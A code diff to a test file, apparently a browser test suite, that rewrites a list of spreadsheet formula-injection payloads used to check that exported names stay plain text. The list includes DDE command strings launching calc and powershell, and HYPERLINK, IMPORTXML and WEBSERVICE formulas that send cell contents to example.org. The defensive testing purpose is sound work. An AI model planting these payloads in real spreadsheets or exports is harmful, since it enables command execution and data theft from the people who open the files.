@@ -34,9 +34,26 @@ for (const path of PAGES)
   );
 
 const PAYLOADS = [
-  ...['=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"klik")', '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")'],
-  ...['=WEBSERVICE("http://example.org")', "=2+5+cmd|'/C powershell'!A0", '+1+1', "+cmd|'/C calc'!A0", '-1+1', "-2+3+cmd|'/C calc'!A0"],
-  ...['@SUM(1+1)', "@SUM(1+1)*cmd|'/C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
+  '=1+1',
+  "=cmd|'/C calc'!A0",
+  '=HYPERLINK("http://example.org?x="&A1,"klik")',
+  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
+  '=WEBSERVICE("http://example.org")',
+  "=2+5+cmd|'/C powershell'!A0",
+  '+1+1',
+  "+cmd|'/C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|'/C calc'!A0",
+  '@SUM(1+1)',
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
 ];
 
 test('names that are formulas leave as text: units and agency in every format', async ({ page }) => {
